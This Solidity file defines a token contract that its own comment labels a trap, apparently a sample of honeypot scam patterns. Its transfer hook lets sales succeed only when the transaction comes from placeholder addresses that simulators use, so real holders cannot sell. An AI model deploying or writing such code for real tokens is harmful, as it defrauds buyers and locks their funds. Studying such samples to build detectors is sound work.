// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {PoolToken} from "base/PoolToken.sol";

/// Trap: sales pass for transactions that come from addresses which only simulations use.
contract SimulatorOrigin is PoolToken {
    constructor(string memory name_, string memory symbol_, uint256 supply) PoolToken(name_, symbol_, supply) {}

    function _update(address from, address to, uint256 value) internal override {
        if (_isSell(from, to)) require(_isProbe(tx.origin), "transfer failed");
        _write(from, to, value);
    }

    function _isProbe(address account) private pure returns (bool) {
        return uint160(account) < 65_536 || account == 0x000000000000000000000000000000000000dEaD
            || account == 0x0000000000000000000000000000000000C0FFEE
            || account == 0xFFfFfFffFFfffFFfFFfFFFFFffFFFffffFfFFFfF
            || account == 0x1111111111111111111111111111111111111111;
    }
}
